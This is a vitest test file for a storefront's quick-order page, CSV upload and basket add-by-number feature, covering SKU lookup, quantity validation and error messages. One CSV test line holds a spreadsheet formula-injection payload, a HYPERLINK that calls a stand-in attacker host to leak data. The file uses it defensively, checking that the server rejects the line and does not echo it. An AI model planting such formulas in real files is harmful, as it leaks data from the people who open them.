// The quick order (/quick-order) and the basket's "add by item number" through the built storefront,
// as a browser without JavaScript posts them: the lookup rules of shopping-core §5 on each row, the
// §8 messages, the CSV upload with every bad input of issue 18 (a clear message, nothing added that
// was not asked for, nothing echoed), and the lookup's JSON for the suggestions.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startBuiltStorefront, type BuiltStorefront } from './built-storefront';
import { alerts, descriptionOf, elements, labelled, links, statuses, textOf } from './html';
import { itemCount, shopper, type Shopper } from './shopper';

let shop: BuiltStorefront;
beforeAll(async () => {
  shop = await startBuiltStorefront();
}, 120_000);
afterAll(() => shop?.close());

const GOOGLE_HOME = '201807171';
/** The manufacturer SKU of one variation of the Canon EOS R50 (master 6291740). */
const EOS_R50_MPN = '5811C003-03';
const EOS_R50 = '6291740-03';

const rowFields = (intent: string, rows: [string, string][]) =>
  Object.fromEntries([['intent', intent], ...rows.flatMap(([sku, quantity], index) => [[`rows[${index}].sku`, sku], [`rows[${index}].quantity`, quantity]])]);

/** What the page says about one row: the text of its product cell (index from 0). */
function rowResult(html: string, index: number): string {
  const row = elements(labelled(html, 'Quick order by item number') ?? '', 'tr')[index + 1];
  return textOf(elements(row ?? '', 'td')[2] ?? '');
}


/** Posts a file as the CSV form does (multipart), from the shop's own page. */
async function upload(customer: Shopper, content: BlobPart, name = 'order.csv') {
  const form = new FormData();
  form.append('file', new Blob([content], { type: 'text/csv' }), name);
  const response = await fetch(`${shop.origin}/quick-order`, {
    method: 'POST',
    body: form,
    headers: { Origin: shop.origin, ...(customer.cookie ? { Cookie: customer.cookie } : {}) },
    redirect: 'manual',
  });
  return { status: response.status, html: await response.text() };
}

describe('the quick order page', () => {
  it('is linked from the header and starts with five rows', async () => {
    const home = await shopper(shop.origin).text('/home');
    expect(links(home)).toContainEqual({ href: '/quick-order', name: 'Quick order' });
    const html = await shopper(shop.origin).text('/quick-order');
    expect(textOf(elements(html, 'h1')[0])).toBe('Quick order');
    expect(elements(labelled(html, 'Quick order by item number')!, 'tr')).toHaveLength(6);
    expect(html).toContain('name="rows[4].sku"');
  });

  it('adds five more rows, keeping what was typed', async () => {
    const response = await shopper(shop.origin).post('/quick-order', rowFields('add-rows', [[GOOGLE_HOME, '2'], ['', '1'], ['', '1'], ['', '1'], ['', '1']]));
    const html = await response.text();
    expect(html).toContain('name="rows[9].sku"');
    expect(html).not.toContain('name="rows[10].sku"');
    expect(rowResult(html, 0)).toContain('Google Home');
  });
});

describe('the lookup of a row (shopping-core §5)', () => {
  it('finds a product by its SKU and by its manufacturer SKU, with price and stock, and replaces the typed number by the SKU', async () => {
    const html = await (await shopper(shop.origin).post('/quick-order', rowFields('check', [[GOOGLE_HOME, '1'], [EOS_R50_MPN.toLowerCase(), '1']]))).text();
    expect(rowResult(html, 0)).toMatch(/Google Home Item number 201807171 €[\d.,]+ In stock/);
    expect(rowResult(html, 1)).toContain(`Canon EOS R50 – Black, double zoom kit Item number ${EOS_R50}`);
    expect(html).toContain(`name="rows[1].sku" value="${EOS_R50}"`);
  });

  it('never takes a master: its SKU lists the variations to choose from, as choices that work without JavaScript', async () => {
    const customer = shopper(shop.origin);
    const html = await (await customer.post('/quick-order', rowFields('check', [['6291740', '1']]))).text();
    const result = rowResult(html, 0);
    expect(result).toMatch(/^Matching products, row 1 Canon EOS R50 – .*\(6291740-0\d\).* 6 products match “6291740”\./);
    expect(result).not.toContain('(6291740)');
    // the first five of the six, as radio choices
    expect(html.match(/<input[^>]*type="radio"[^>]*name="rows\[0\]\.choice"/g)).toHaveLength(5);
    const chosen = await (await customer.post('/quick-order', { ...rowFields('check', [['6291740', '1']]), 'rows[0].choice': EOS_R50 })).text();
    expect(chosen).toContain(`name="rows[0].sku" value="${EOS_R50}"`);
    expect(rowResult(chosen, 0)).toContain(`Item number ${EOS_R50}`);
  });

  it('says §8 for a number nothing matches, next to its field', async () => {
    const response = await shopper(shop.origin).post('/quick-order', rowFields('check', [['NO-SUCH-ITEM', '1']]));
    expect(response.status).toBe(422);
    expect(descriptionOf(await response.text(), 'rows[0].sku')).toBe('No product was found for “NO-SUCH-ITEM”.');
  });

  it("checks a row's quantity as typed and against the product's rules", async () => {
    const html = await (
      await shopper(shop.origin).post('/quick-order', rowFields('check', [[GOOGLE_HOME, '0'], [GOOGLE_HOME, '1.5'], [GOOGLE_HOME, '-1'], [GOOGLE_HOME, '1e9'], [GOOGLE_HOME, '101'], [GOOGLE_HOME, '10000000']]))
    ).text();
    expect([0, 1, 2, 3, 4, 5].map((row) => descriptionOf(html, `rows[${row}].quantity`))).toEqual([
      'Please enter a quantity of at least 1.',
      'Please enter a whole number.',
      'The quantity cannot be negative.',
      'Please enter a whole number.',
      'At most 100 can be ordered at once.',
      'At most 9,999,999 can be ordered at once.',
    ]);
  });

  it('answers the suggestions as JSON, the exact manufacturer SKU alone, masters never', async () => {
    const customer = shopper(shop.origin);
    const exact = await (await customer.get(`/api/product-lookup?searchTerm=${EOS_R50_MPN}`)).json();
    expect(exact.products).toEqual([{ sku: EOS_R50, name: 'Canon EOS R50 – Black, double zoom kit', manufacturerSKU: EOS_R50_MPN }]);
    const fragment = await (await customer.get('/api/product-lookup?searchTerm=5811C003')).json();
    expect(fragment.products.map((product: { sku: string }) => product.sku).sort()).toEqual([1, 2, 3, 4, 5, 6].map((n) => `6291740-0${n}`));
    expect((await (await customer.get('/api/product-lookup?searchTerm=x')).json()).products).toEqual([]);
  });
});

describe('adding the rows', () => {
  it('adds the rows found, and keeps the unknown one with its §8 message', async () => {
    const customer = shopper(shop.origin);
    const response = await customer.post('/quick-order', rowFields('add', [[GOOGLE_HOME, '2'], [EOS_R50_MPN, '1'], ['NO-SUCH-ITEM', '1'], ['', '1']]));
    expect(response.status).toBe(200);
    const html = await response.text();
    expect(statuses(html)).toContain('2 products have been added to your basket.');
    expect(alerts(html)).toContain('1 row could not be added to your basket. Please check it below.');
    expect(html).toContain('name="rows[0].sku" value="NO-SUCH-ITEM"');
    expect(descriptionOf(html, 'rows[0].sku')).toBe('No product was found for “NO-SUCH-ITEM”.');
    expect(await itemCount(customer)).toBe(3);
  });

  it('adds only rows whose term is an item number; a fragment or a name comes back filled in, with "did you mean"', async () => {
    const customer = shopper(shop.origin);
    const loose = await customer.post('/quick-order', rowFields('add', [['20180717', '1'], ['Playsport', '1']]));
    expect(loose.status).toBe(422);
    const html = await loose.text();
    expect(alerts(html)).toContain('2 rows could not be added to your basket. Please check them below.');
    expect(html).toContain(`name="rows[0].sku" value="${GOOGLE_HOME}"`);
    expect(descriptionOf(html, 'rows[0].sku')).toBe(`Did you mean Google Home (${GOOGLE_HOME}) for “20180717”? Please check the item number and add it again.`);
    expect(descriptionOf(html, 'rows[1].sku')).toMatch(/^Did you mean Kodak PLAYSPORT Zx5 \(\w+\) for “Playsport”\?/);
    expect(await itemCount(customer)).toBe(0);
    const mixed = await customer.post('/quick-order', rowFields('add', [['20180717', '1'], [EOS_R50_MPN.toLowerCase(), '1']]));
    expect(statuses(await mixed.text())).toContain('1 product has been added to your basket.');
    expect(await itemCount(customer)).toBe(1);
  });

  it('goes back to an empty form with the message when every row went in', async () => {
    const customer = shopper(shop.origin);
    const response = await customer.post('/quick-order', rowFields('add', [[GOOGLE_HOME, '1']]));
    expect(response.status).toBe(303);
    expect(response.headers.get('location')).toBe('/quick-order');
    expect(statuses(await customer.text('/quick-order'))).toContain('1 product has been added to your basket.');
    expect(await itemCount(customer)).toBe(1);
  });

  it('adds nothing when no row asks for anything, or a quantity is wrong', async () => {
    const customer = shopper(shop.origin);
    expect(alerts(await (await customer.post('/quick-order', rowFields('add', [['', '1'], ['', '1']]))).text())).toContain('Please enter at least one item number.');
    const response = await customer.post('/quick-order', rowFields('add', [[GOOGLE_HOME, '1.5']]));
    expect(response.status).toBe(422);
    expect(await itemCount(customer)).toBe(0);
  });
});

describe('the CSV upload', () => {
  it('fills the rows for review with the §8 counts, and adds them all', async () => {
    const customer = shopper(shop.origin);
    const { status, html } = await upload(customer, `sku;quantity\r\n${GOOGLE_HOME};2\r\n${EOS_R50_MPN};1\r\nNO-SUCH-ITEM;4\r\n`);
    expect(status).toBe(200);
    expect(alerts(html)).toContain('2 of 3 products found, 1 not found.');
    expect(html).toContain(`name="rows[1].sku" value="${EOS_R50}"`);
    expect(await itemCount(customer)).toBe(0);
    await customer.post('/quick-order', rowFields('add', [[GOOGLE_HOME, '2'], [EOS_R50, '1'], ['NO-SUCH-ITEM', '4']]));
    expect(await itemCount(customer)).toBe(3);
  });

  it.each<[string, BlobPart, number, string]>([
    ['an empty file', '', 422, 'The file is empty. Please choose a CSV file with item numbers and quantities.'],
    ['a header line alone', 'sku,quantity\n', 422, 'The file is empty. Please choose a CSV file with item numbers and quantities.'],
    ['a binary file', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0xff, 0xfe]), 422, 'This is not a CSV text file. Please save your list as CSV and upload it again.'],
    ['a 10 MB file', new Uint8Array(10 * 1024 * 1024).fill(0x31), 413, 'The file is too large. Please upload a CSV file of at most 256 KB.'],
    ['10,000 lines', Array.from({ length: 10_000 }, () => `${GOOGLE_HOME},1`).join('\n'), 422, 'The file has too many lines. At most 1000 lines can be ordered at once.'],
  ])('refuses %s with a clear message and adds nothing', async (_what, content, status, message) => {
    const customer = shopper(shop.origin);
    const answer = await upload(customer, content);
    expect(answer.status).toBe(status);
    expect(alerts(answer.html)).toEqual([message]);
    expect(await itemCount(customer)).toBe(0);
  });

  it('refuses bad quantities and formulas line by line, echoing none of them', async () => {
    const customer = shopper(shop.origin);
    const lines = [`${GOOGLE_HOME},0`, `${GOOGLE_HOME},-1`, `${GOOGLE_HOME},1.5`, `${GOOGLE_HOME},1e9`, '=HYPERLINK("http://evil.example/?leak","<b>Click</b>"),1', `${EOS_R50_MPN},1`];
    const { status, html } = await upload(customer, lines.join('\n'));
    expect(status).toBe(200);
    expect(statuses(html)).toContain('1 of 1 products found, 0 not found.');
    expect(textOf(labelled(html, 'Lines left out')!)).toBe(
      'Line 1: Please enter a quantity of at least 1. Line 2: The quantity cannot be negative. Line 3: Please enter a whole number. ' +
        'Line 4: Please enter a whole number. Line 5: This line contains a formula and has been left out.',
    );
    expect(html).not.toMatch(/HYPERLINK|evil\.example|<b>Click/);
    expect(html).not.toContain(`value="${GOOGLE_HOME}"`);
    expect(await itemCount(customer)).toBe(0);
  });
});

describe('add by item number on the basket page', () => {
  it('looks the number up like a quick-order row', async () => {
    const customer = shopper(shop.origin);
    const added = await customer.post('/basket', { intent: 'add-by-number', sku: EOS_R50_MPN, quantity: '2' });
    expect(added.status).toBe(303);
    const basket = await customer.text('/basket');
    expect(statuses(basket)).toContain(`Canon EOS R50 – Black, double zoom kit (${EOS_R50}) has been added to your basket.`);
    expect(await itemCount(customer)).toBe(2);
    const unknown = await customer.post('/basket', { intent: 'add-by-number', sku: 'NO-SUCH-ITEM', quantity: '1' });
    expect(unknown.status).toBe(422);
    const form = async (response: Response) => labelled(await response.text(), 'Add by item number') ?? '';
    expect(descriptionOf(await form(unknown), 'sku')).toBe('No product was found for “NO-SUCH-ITEM”.');
    const wrong = await customer.post('/basket', { intent: 'add-by-number', sku: GOOGLE_HOME, quantity: '1.5' });
    expect(descriptionOf(await form(wrong), 'quantity')).toBe('Please enter a whole number.');
    expect(await itemCount(customer)).toBe(2);
    const loose = await customer.post('/basket', { intent: 'add-by-number', sku: '20180717', quantity: '1' });
    expect(loose.status).toBe(422);
    const looseForm = await form(loose);
    expect(descriptionOf(looseForm, 'sku')).toBe(`Did you mean Google Home (${GOOGLE_HOME}) for “20180717”? Please check the item number and add it again.`);
    expect(looseForm).toContain(`value="${GOOGLE_HOME}"`);
    expect(await itemCount(customer)).toBe(2);
  });
});
